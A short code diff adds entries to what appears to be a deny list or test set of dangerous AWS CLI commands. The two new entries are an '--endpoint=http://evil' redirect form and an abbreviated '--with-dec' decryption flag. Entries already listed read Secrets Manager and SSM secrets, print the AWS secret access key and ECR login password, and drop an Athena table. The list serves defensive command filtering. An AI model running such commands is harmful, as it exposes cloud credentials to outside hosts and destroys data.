@@ -210,6 +210,8 @@ export const aws = commands({
         "aws secretsmanager get-secret-value --secret-id x",
         "aws ssm get-parameter --name x --with-decryption",
         "aws ec2 describe-instances --endpoint-url http://evil",
+        "aws ec2 describe-instances --endpoint=http://evil",
+        "aws ssm get-parameter --name x --with-dec",
         "aws athena start-query-execution --query-string 'DROP TABLE x'",
         "aws configure get aws_secret_access_key",
         "aws ecr get-login-password",
